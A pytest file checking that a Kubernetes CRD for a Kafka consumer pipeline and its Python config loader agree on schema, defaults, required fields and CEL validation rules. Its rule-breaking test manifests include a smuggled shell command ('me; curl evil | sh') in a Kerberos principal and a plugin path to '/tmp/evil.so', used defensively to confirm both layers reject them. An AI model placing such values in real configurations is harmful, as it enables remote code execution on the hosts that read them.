"""The CRD (crds/consumerpipeline.yaml) and the worker's loader agree.

The loader takes its defaults, bounds and choices from the CRD itself (offtake.config._fields),
so what is left to keep in step is what the loader adds: the typed spec's names, and the checks
across fields that the CRD writes as CEL rules. Here a manifest the server accepts (the CRD's
schema and CEL rules as `offtake validate` evaluates them, offtake.config.crd_check) must run,
and each CEL rule's breaking manifest is refused by the loader too where the worker reads it.
"""

from __future__ import annotations

import copy
import dataclasses
import functools
import re
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import jsonschema
import pytest
import yaml

from offtake.config import ConfigError, PipelineSpec, load_pipeline, parse_pipeline
from offtake.config.crd_check import crd_problems, json_schema

ROOT = Path(__file__).resolve().parents[2]
CRD_PATH = ROOT / "crds" / "consumerpipeline.yaml"
EXAMPLES = sorted((ROOT / "examples").glob("*.yaml"))

# Fields the operator reads and the worker accepts without interpreting (see loader.py).
OPERATOR_ONLY = {
    ("spec", "rewind"),
    ("spec", "redrive"),
    ("spec", "autoscaling"),
    ("spec", "template"),
    ("spec", "resources"),
    ("spec", "image"),
    ("spec", "serviceMonitor"),
    ("spec", "slo"),
}
CONTAINER_EXTRAS = {
    "resources",
    "env",
    "envFrom",
    "command",
    "args",
    "imagePullPolicy",
    "securityContext",
}

FieldPath = tuple[str, ...]
Node = Mapping[str, Any]


@functools.cache
def _crd() -> dict[str, Any]:
    doc = yaml.safe_load(CRD_PATH.read_text())
    assert isinstance(doc, dict)
    return doc


def _schema() -> dict[str, Any]:
    version = _crd()["spec"]["versions"][0]
    schema = version["schema"]["openAPIV3Schema"]
    assert isinstance(schema, dict)
    return schema


def _snake(name: str) -> str:
    return re.sub(r"(?<!^)(?=[A-Z])", "_", re.sub(r"MiB$", "Mib", name)).lower()


def _camel(name: str) -> str:
    """A dataclass field's manifest name: max_memory_mib -> maxMemoryMiB (units as written)."""
    camel = re.sub(r"_([a-z])", lambda m: m.group(1).upper(), name)
    return re.sub(r"Mib$", "MiB", camel)


# ---------------------------------------------------------------- the API server's verdict


def validate(manifest: Mapping[str, Any]) -> None:
    """Fail if ``manifest`` breaks the CRD's schema or one of its CEL rules."""
    problems = crd_problems(manifest)
    assert not problems, problems


_CLUSTER_ONLY = ("image", "serviceAccount", "server", "executors")


def _injects(s: Mapping[str, Any]) -> bool:
    return s.get("mode") == "inject"


def _container(s: Mapping[str, Any]) -> Mapping[str, Any] | None:
    c = (s.get("processor") or {}).get("container")
    return c if isinstance(c, Mapping) else None


def cel_rules(node: Node, path: FieldPath = ()) -> Iterator[tuple[FieldPath, str, str]]:
    for v in node.get("x-kubernetes-validations", []):
        yield path, v["rule"], v.get("message", "")
    for name, sub in node.get("properties", {}).items():
        yield from cel_rules(sub, (*path, name))
    if isinstance(node.get("items"), dict):
        yield from cel_rules(node["items"], path)


# ---------------------------------------------------------------- sample manifests


def minimal() -> dict[str, Any]:
    return {
        "apiVersion": "offtake.dev/v1alpha1",
        "kind": "ConsumerPipeline",
        "metadata": {"name": "p", "namespace": "ns"},
        "spec": {
            "kafka": {"bootstrapServers": "kafka:9092"},
            "source": {"topics": ["orders"]},
            "sink": {"log": {}},
        },
    }


SAMPLE_STRINGS = {
    "function": "pkg.mod:handle",
    "lifespan": "pkg.mod:session",
    "transform": "pkg.jobs:clean",
    "timestamp": "2024-05-01T12:00:00Z",
    "until": "2024-05-01T12:00:00Z",
    "path": "/v1/process",
    "connectUrl": "sc://spark:15002",
    "url": "http://registry:8080/apis/ccompat/v7",
    "protobufMessage": "pkg.orders_pb2:Order",
    "prometheusAddress": "http://prometheus:9090",
    "table": "lake.orders",
    "memory": "2g",
}


def sample(node: Mapping[str, Any], name: str) -> Any:
    """A valid value for a schema node, with every required field of objects filled in."""
    if "default" in node:
        return copy.deepcopy(node["default"])
    if "enum" in node:
        return node["enum"][0]
    if node.get("x-kubernetes-int-or-string"):
        return "1"
    kind = node.get("type")
    if kind == "string":
        if name == "path" and "pattern" not in node:
            return "s3a://lake/x"
        return SAMPLE_STRINGS.get(name, "x")
    if kind == "integer":
        return max(1, node.get("minimum", 1))
    if kind == "number":
        return max(1.0, float(node.get("minimum", 1)))
    if kind == "boolean":
        return True
    if kind == "array":
        return [sample(node["items"], name)]
    if kind == "object" or node.get("x-kubernetes-preserve-unknown-fields"):
        props = node.get("properties", {})
        return {k: sample(props[k], k) for k in node.get("required", [])}
    raise AssertionError(f"no sample for {name}: {node}")


def leaves(node: Node, path: FieldPath = ()) -> Iterator[tuple[FieldPath, Node]]:
    """Every settable field below ``node``: scalars, lists and free-form maps."""
    props = node.get("properties")
    if node.get("type") == "object" and props:
        for name, sub in props.items():
            yield from leaves(sub, (*path, name))
    elif node.get("type") == "array" and node["items"].get("properties"):
        yield path, node  # a list of objects: set as a whole
    else:
        yield path, node


def leaf_values(node: Mapping[str, Any], name: str) -> list[Any]:
    """The values worth trying for a leaf: every enum member, else the bounds, else a sample."""
    if "enum" in node:
        return list(node["enum"])
    if node.get("type") in ("integer", "number"):
        values = {node[b] for b in ("minimum", "maximum") if b in node}
        return sorted(values) or [sample(node, name)]
    if node.get("type") == "boolean":
        return [True, False]
    if node.get("type") == "object" and "additionalProperties" in node:
        if node["additionalProperties"].get("x-kubernetes-int-or-string"):
            return [{"some.key": "v", "n": 5}]
        return [{"some.key": "v"}]
    return [sample(node, name)]


def set_path(manifest: dict[str, Any], path: tuple[str, ...], value: Any) -> None:
    """Set ``value`` at ``path``, creating parents with their required fields."""
    node: Mapping[str, Any] = _schema()
    here: dict[str, Any] = manifest
    for i, key in enumerate(path):
        node = node["properties"][key]
        if i == len(path) - 1:
            here[key] = value
            break
        if key == "sink" and path[i + 1] not in here.get("sink", {}):
            here["sink"] = {}  # exactly one sink: replace the minimal one
        if key not in here:
            here[key] = sample(node, key)
        here = here[key]
    fix_cross_field_rules(manifest)


def fix_cross_field_rules(m: dict[str, Any]) -> None:
    """Make a manifest satisfy the CEL rules that tie fields together."""
    spec = m["spec"]
    container = _container(spec)
    if _injects(spec):  # the app container is the processor: a port, no image, no pause
        spec.pop("paused", None)
        processor = spec.setdefault("processor", {})
        processor.pop("function", None)
        processor.setdefault("container", {}).pop("image", None)
    elif container is not None and "image" not in container:
        spec["processor"]["container"] = {"image": "registry/app:1", **container}
    spark = spec["sink"].get("spark")
    if spark is not None:
        if "jdbc" in spark:
            spark["format"] = "jdbc"
        elif spark["format"] == "jdbc":
            spark["jdbc"] = {"url": "jdbc:postgresql://db/x", "table": "t"}
        else:
            spark.setdefault("path", "s3a://lake/x")
        if "iceberg" in spark:
            spark["format"] = "iceberg"
        if spark["format"] == "iceberg":
            spark.setdefault("iceberg", {"table": "lake.orders", "catalogUri": "sqlite://"})
            if "partitionBy" in spark:
                spark["format"] = "parquet"
                del spark["iceberg"]
        submit = spark.get("submit", {})
        if any(k in submit for k in _CLUSTER_ONLY):
            submit["mode"] = "kubernetes"
        if submit.get("mode") == "kubernetes":
            submit.pop("connectUrl", None)
        if "tokenSecretRef" in submit:
            submit["mode"] = "connect"
        if submit.get("mode") == "connect":
            submit.setdefault("connectUrl", "sc://spark:15002")
    source = spec["source"]
    if "protobufMessage" in source:
        source["format"] = "protobuf"
    if source.get("format") in ("avro", "protobuf", "jsonschema"):
        source.setdefault("schemaRegistry", {"url": "http://registry:8080"})
    if source.get("format") == "protobuf":
        source.setdefault("protobufMessage", "pkg.orders_pb2:Order")
    kafka = spec["sink"].get("kafka")
    if kafka is not None:
        if "protobufMessage" in kafka:
            kafka["format"] = "protobuf"
        elif kafka.get("format", "json") == "json" and (
            "schema" in kafka or "schemaRegistry" in kafka or kafka.get("autoRegister")
        ):
            kafka["format"] = "avro"
        if kafka.get("format") in ("avro", "jsonschema"):
            kafka.setdefault("schema", {"subject": "orders-value"})
            if kafka.get("autoRegister"):
                kafka["schema"].setdefault("file", "/schemas/order.avsc")
        if kafka.get("format") == "protobuf":
            kafka.setdefault("protobufMessage", "pkg.orders_pb2:Order")
            kafka.get("schema", {}).pop("file", None)
        if kafka.get("format", "json") != "json":
            kafka.setdefault("schemaRegistry", {"url": "http://registry:8080"})
    processor = spec.get("processor")
    needs_function = processor is not None and (
        processor.get("batch")
        or processor.get("parallelism", 1) != 1
        or "timeoutSeconds" in processor
        or "maxMemoryMiB" in processor
        or "lifespan" in processor
    )
    if processor is not None and needs_function and "container" not in processor:
        processor.setdefault("function", "a:b")
    errors = spec.get("errors", {})
    if errors.get("policy") == "dlq":
        errors.setdefault("dlq", {"topic": "dlq"})
    rewind = spec.get("rewind")
    if rewind is not None and rewind.get("to") == "timestamp":
        rewind.setdefault("timestamp", "2024-05-01T12:00:00Z")
    redrive = spec.get("redrive")
    if redrive is not None and "dlq" not in spec.get("errors", {}):
        redrive.setdefault("from", "dlq")
    auto = spec.get("autoscaling")
    if auto is not None and auto.get("minReplicas", 1) > auto.get("maxReplicas", 10):
        auto["maxReplicas"] = auto["minReplicas"]


def spec_value(parsed: PipelineSpec, path: tuple[str, ...]) -> Any:
    """The parsed value for a manifest path (camelCase keys, 'spec' first)."""
    value: Any = parsed
    for key in path[1:]:
        value = getattr(value, _snake(key))
    return value


def worker_reads(path: tuple[str, ...]) -> bool:
    if path[:2] in OPERATOR_ONLY:
        return False
    if path[:3] == ("spec", "processor", "container") and len(path) > 3:
        return path[3] not in CONTAINER_EXTRAS
    return True


# ---------------------------------------------------------------- tests


def test_crd_names_subresources_and_columns() -> None:
    crd = _crd()
    spec = crd["spec"]
    assert crd["metadata"]["name"] == "consumerpipelines.offtake.dev"
    assert spec["group"] == "offtake.dev"
    assert spec["names"]["kind"] == "ConsumerPipeline"
    assert spec["names"]["plural"] == "consumerpipelines"
    assert spec["names"]["shortNames"] == ["cpl"]
    (version,) = spec["versions"]
    assert version["name"] == "v1alpha1" and version["served"] and version["storage"]
    assert version["subresources"]["status"] == {}
    assert version["subresources"]["scale"] == {
        "specReplicasPath": ".spec.replicas",
        "statusReplicasPath": ".status.replicas",
        "labelSelectorPath": ".status.selector",
    }
    columns = [c["name"] for c in version["additionalPrinterColumns"] if not c.get("priority")]
    assert columns == [
        *("Phase", "Ready", "Replicas", "Group", "Lag", "Lag(s)", "Reason", "Message", "Age")
    ]
    wide = [c["name"] for c in version["additionalPrinterColumns"] if c.get("priority") == 1]
    assert wide == ["Partitions", "Up-to-date", "Autoscaler"]
    schema = _schema()
    for column in version["additionalPrinterColumns"]:
        path = column["jsonPath"].strip(".").split(".")
        if path[0] == "metadata":
            continue
        node: Mapping[str, Any] = schema
        for key in path:
            node = node["properties"][key]
        assert node["type"] == column["type"], column


def _walk_nodes(node: Mapping[str, Any], path: str = "") -> Iterator[tuple[str, Mapping[str, Any]]]:
    yield path, node
    for name, sub in node.get("properties", {}).items():
        yield from _walk_nodes(sub, f"{path}.{name}")
    for key in ("items", "additionalProperties"):
        if isinstance(node.get(key), dict):
            yield from _walk_nodes(node[key], f"{path}[{key}]")


def test_schema_is_structural() -> None:
    """Every node has a type unless an extension stands in for it (the server insists)."""
    for path, node in _walk_nodes(_schema()):
        if any(node.get(f"x-kubernetes-{x}") for x in ("int-or-string", "preserve-unknown-fields")):
            continue
        assert "type" in node, f"{path or '<root>'} has no type"
        if "properties" in node:
            assert "additionalProperties" not in node, f"{path}: both kinds of properties"


def test_defaults_are_valid_for_their_fields() -> None:
    for path, node in _walk_nodes(_schema()):
        if "default" in node:
            jsonschema.Draft4Validator(json_schema(node)).validate(node["default"])
            assert path, "no default at the root"


@pytest.mark.parametrize("example", EXAMPLES, ids=[e.name for e in EXAMPLES])
def test_examples_parse_and_validate(example: Path) -> None:
    parsed = load_pipeline(example)
    manifest = yaml.safe_load(example.read_text())
    validate(manifest)
    assert "namespace" not in manifest["metadata"], "examples are applied with kubectl -n"
    assert parsed.name == manifest["metadata"]["name"]


def test_there_are_examples_of_each_sink_and_processor_mode() -> None:
    specs = [load_pipeline(e) for e in EXAMPLES]
    assert {s.sink.kind for s in specs} >= {"kafka", "spark", "log"}
    assert any(s.processor.function for s in specs)
    assert any(s.processor.container for s in specs)
    assert any(s.sink.spark and s.sink.spark.format == "parquet" for s in specs)


LEAVES = [(p, n) for p, n in leaves(_schema()["properties"]["spec"], ("spec",))]
#: Fields the CRD describes only to refuse them (an inline secret), with the loader.
REFUSED_LEAVES = {("spec", "sink", "spark", "jdbc", "password")}


@pytest.mark.parametrize(("path", "node"), LEAVES, ids=[".".join(p) for p, _ in LEAVES])
def test_every_leaf_field_accepted_by_the_crd_parses(path: FieldPath, node: Node) -> None:
    for value in leaf_values(node, path[-1]):
        manifest = minimal()
        set_path(manifest, path, copy.deepcopy(value))
        if path in REFUSED_LEAVES:
            # Kept in the schema to be refused with a message naming the Secret form instead.
            assert crd_problems(manifest)
            with pytest.raises(ConfigError, match="must not be inline"):
                parse_pipeline(manifest)
            continue
        validate(manifest)  # the generator made a manifest the server accepts...
        try:
            parsed = parse_pipeline(manifest)  # ...and the worker runs it
        except ConfigError as exc:
            pytest.fail(f"{'.'.join(path)}={value!r} passes the CRD but not the loader: {exc}")
        if not worker_reads(path):
            continue
        got = spec_value(parsed, path)
        if dataclasses.is_dataclass(got):
            continue  # an empty object such as sink.log: parsed into its (field-less) class
        if isinstance(value, list) and got and dataclasses.is_dataclass(got[0]):
            assert [_as_manifest(g) for g in got] == value  # a list of objects
        elif isinstance(value, list):
            assert list(got) == value
        elif isinstance(value, dict):
            assert got == {k: str(v) for k, v in value.items()}
        elif isinstance(value, bool) or not isinstance(value, int | float):
            assert got == value
        else:
            assert got == pytest.approx(value)


def _as_manifest(obj: Any) -> dict[str, Any]:
    """A spec dataclass back as its manifest mapping (camelCase keys)."""
    return {_camel(k): v for k, v in dataclasses.asdict(obj).items()}


NESTED_TYPES: dict[tuple[str, ...], type] = {}


def _field_types() -> None:
    """Map manifest paths of nested dataclasses (including optional ones) to their classes."""
    import typing

    from offtake.config import spec as spec_module

    def visit(cls: type, path: tuple[str, ...]) -> None:
        NESTED_TYPES[path] = cls
        hints = typing.get_type_hints(cls, vars(spec_module))
        for f in dataclasses.fields(cls):
            camel = _camel(f.name)
            for arg in (hints[f.name], *typing.get_args(hints[f.name])):
                if dataclasses.is_dataclass(arg):
                    visit(arg, (*path, camel))  # type: ignore[arg-type]

    visit(PipelineSpec, ("spec",))


_field_types()


def test_every_dataclass_field_is_in_the_crd() -> None:
    spec_node = _schema()["properties"]["spec"]
    for path, cls in NESTED_TYPES.items():
        node: Mapping[str, Any] = {"properties": {"spec": spec_node}}
        for key in path:
            node = node["properties"][key]
            if node.get("type") == "array":
                node = node["items"]  # a list of objects: its items are the dataclass
        for f in dataclasses.fields(cls):
            if path == ("spec",) and f.name in ("name", "namespace"):
                continue
            camel = _camel(f.name)
            where = f"{'.'.join(path)}.{camel}"
            assert camel in node.get("properties", {}), f"{where} is not in the CRD"


def test_required_fields_agree_with_the_loader() -> None:
    """Dropping a field the CRD requires makes the loader fail too, naming the field."""

    def required(node: Mapping[str, Any], path: tuple[str, ...]) -> Iterator[tuple[str, ...]]:
        for name in node.get("required", []):
            yield (*path, name)
        for name, sub in node.get("properties", {}).items():
            yield from required(sub, (*path, name))

    for path in required(_schema()["properties"]["spec"], ("spec",)):
        if not worker_reads(path):
            continue
        manifest = minimal()
        set_path(manifest, path, sample(_node_at(path), path[-1]))
        parent = manifest
        for key in path[:-1]:
            parent = parent[key]
        del parent[path[-1]]
        with pytest.raises(ConfigError) as err:
            parse_pipeline(manifest)
        assert path[-1] in str(err.value) or path[-2] in str(err.value), err.value


def _node_at(path: tuple[str, ...]) -> Mapping[str, Any]:
    node: Mapping[str, Any] = _schema()
    for key in path:
        node = node["properties"][key]
    return node


# One manifest breaking each rule; None where the rule guards a field only the operator reads.
def _breaking(rule: str) -> tuple[dict[str, Any], bool]:
    m = minimal()
    spec = m["spec"]
    loader_rejects = True
    json_sink = {"format": "json", "path": "/x"}
    if "plugin.library.paths" in rule:
        spec["kafka"]["config"] = {"plugin.library.paths": "/tmp/evil.so"}
    elif "sasl.kerberos.principal" in rule:
        spec["kafka"]["config"] = {"sasl.kerberos.principal": "me; curl evil | sh"}
    elif "'.sas.'" in rule:
        conf = {"spark.hadoop.fs.s3a.secret.key": "hunter2"}
        spec["sink"] = {"spark": {**json_sink, "submit": {"conf": conf}}}
    elif "self.catalogUri.matches" in rule:
        iceberg = {"table": "lake.orders", "catalogUri": "postgresql+psycopg://u:pw@db/x"}
        spec["sink"] = {"spark": {"format": "iceberg", "path": "/x", "iceberg": iceberg}}
    elif "self.url.matches" in rule:
        jdbc = {"url": "jdbc:postgresql://db/x?password=pw", "table": "t"}
        spec["sink"] = {"spark": {"format": "jdbc", "jdbc": jdbc}}
    elif "self.connectUrl.matches" in rule:
        submit = {"mode": "connect", "connectUrl": "sc://spark:15002/;token=pw"}
        spec["sink"] = {"spark": {**json_sink, "submit": submit}}
    elif "!has(self.password)" in rule:
        jdbc = {"url": "jdbc:postgresql://db/x", "table": "t", "password": "pw"}
        spec["sink"] = {"spark": {"format": "jdbc", "jdbc": jdbc}}
    elif "has(self.passwordSecretRef)" in rule:
        ref = {"name": "db", "key": "password"}
        jdbc = {"url": "jdbc:x", "table": "t", "secretRef": {"name": "db"}}
        jdbc["passwordSecretRef"] = ref
        spec["sink"] = {"spark": {"format": "jdbc", "jdbc": jdbc}}
    elif "has(self.tokenSecretRef)" in rule:
        submit = {"mode": "local", "tokenSecretRef": {"name": "spark", "key": "token"}}
        spec["sink"] = {"spark": {**json_sink, "submit": submit}}
    elif "size(self.errors.retryTopics) == 0" in rule:
        spec["source"]["groupType"] = "share"
        spec["errors"] = {"retryTopics": [{"delaySeconds": 10}]}
    elif "maxRetries <= 8" in rule:
        spec["source"]["groupType"] = "share"
        spec["errors"] = {"maxRetries": 9}
    elif "groupType" in rule:
        spec["source"]["groupType"] = "share"
        spec["sink"] = {"kafka": {"topic": "t", "delivery": "exactly-once"}}
    elif "self.paused" in rule:
        spec.update(mode="inject", paused=True, processor={"container": {"port": 8080}})
    elif "|| has(self.processor.container.image)" in rule:
        spec["processor"] = {"container": {"port": 8080}}
    elif "&& has(self.processor.container))" in rule:
        spec["mode"] = "inject"
    elif "!has(self.processor.container.image)" in rule:
        spec.update(mode="inject", processor={"container": {"image": "app:1"}})
    elif "size() <= 55" in rule:
        m["metadata"]["name"] = "p" * 56
        loader_rejects = False
    elif "matches(" in rule:
        m["metadata"]["name"] = "9lives"
        loader_rejects = False
    elif "lowerAscii" in rule:
        spec["kafka"]["config"] = {"sasl.password": "hunter2"}
    elif "self.probePort" in rule:
        spec["metrics"] = {"port": 9100, "probePort": 9100}
    elif "!has(self.lifespan) || has(self.function)" in rule:
        spec["processor"] = {"lifespan": "a:c"}
    elif "!has(self.lifespan) ||" in rule:
        spec["processor"] = {"function": "a:b", "lifespan": "a:c", "parallelism": 2}
    elif "self.batch" in rule:
        spec["processor"] = {"batch": True}
    elif "self.parallelism" in rule:
        spec["processor"] = {"parallelism": 2}
    elif "self.timeoutSeconds" in rule:
        spec["processor"] = {"timeoutSeconds": 5}
    elif "self.maxMemoryMiB" in rule:
        spec["processor"] = {"maxMemoryMiB": 256}
    elif "has(self.function)" in rule:
        spec["processor"] = {"function": "a:b", "container": {"image": "img"}}
    elif "has(self.kafka)" in rule:
        spec["sink"] = {"log": {}, "kafka": {"topic": "t"}}
    elif "has(self.jdbc)" in rule:
        spec["sink"] = {"spark": {"format": "parquet"}}
    elif "has(self.iceberg)" in rule:
        spec["sink"] = {"spark": {"format": "iceberg", "path": "/x"}}
    elif "!has(self.connectUrl)" in rule:
        submit = {"mode": "kubernetes", "connectUrl": "sc://x:15002"}
        spec["sink"] = {"spark": {"format": "json", "path": "/x", "submit": submit}}
    elif "has(self.serviceAccount)" in rule:
        submit = {"mode": "local", "image": "spark:4"}
        spec["sink"] = {"spark": {"format": "json", "path": "/x", "submit": submit}}
    elif "connectUrl" in rule:
        spec["sink"] = {"spark": {"format": "json", "path": "/x", "submit": {"mode": "connect"}}}
    elif "has(self.schema)" in rule:
        spec["sink"] = {"kafka": {"topic": "t", "format": "avro"}}
        spec["source"]["schemaRegistry"] = {"url": "http://registry:8080"}
    elif "has(self.schemaRegistry)" in rule:
        spec["source"]["format"] = "avro"
    elif "has(self.protobufMessage)" in rule:
        spec["source"]["format"] = "protobuf"
        spec["source"]["schemaRegistry"] = {"url": "http://registry:8080"}
    elif "retryTopics" in rule:
        spec["errors"] = {"retryTopics": [{"delaySeconds": 10}], "ordering": "strict"}
    elif "dlq" in rule:
        spec["errors"] = {"policy": "dlq"}
    elif "redrive" in rule:
        spec["redrive"] = {"id": "r1", "until": "2024-05-01T12:00:00Z"}
    elif "timestamp" in rule:
        spec["rewind"] = {"to": "timestamp", "id": "r1"}
        loader_rejects = False
    elif "minReplicas" in rule:
        spec["autoscaling"] = {"enabled": True, "minReplicas": 5, "maxReplicas": 2}
        loader_rejects = False
    elif "targetLagSeconds" in rule:
        spec["autoscaling"] = {"enabled": True, "targetLagSeconds": 30, "targetLagPerReplica": 9}
        loader_rejects = False  # the operator's parse_operator_spec rejects it, not the worker
    else:
        raise AssertionError(f"no breaking example for {rule}")
    return m, loader_rejects


CEL_RULES = sorted({rule for _, rule, _ in cel_rules(_schema())})


@pytest.mark.parametrize("rule", CEL_RULES)
def test_each_cel_rule_rejects_what_the_loader_rejects(rule: str) -> None:
    manifest, loader_rejects = _breaking(rule)
    assert crd_problems(manifest), "the breaking manifest passes the CRD"
    if loader_rejects:
        with pytest.raises(ConfigError):
            parse_pipeline(manifest)


def _spec_fields(node: Mapping[str, Any], path: str) -> Iterator[tuple[str, Mapping[str, Any]]]:
    """Every field under ``node`` (array items' fields as ``name[].field``), depth first."""
    for key, child in (node.get("properties") or {}).items():
        here = f"{path}.{key}"
        yield here, child
        yield from _spec_fields(child, here)
        if child.get("type") == "array" and "items" in child:
            yield from _spec_fields(child["items"], f"{here}[]")


def test_every_spec_field_has_a_description_for_kubectl_explain() -> None:
    """kubectl explain cpl.spec... prints each field's description: none may be missing."""
    fields = list(_spec_fields(_schema()["properties"]["spec"], "spec"))
    assert len(fields) > 100  # the walk reached the nested fields
    missing = [path for path, node in fields if not str(node.get("description", "")).strip()]
    assert missing == [], f"{len(missing)} of {len(fields)} spec fields lack a description"
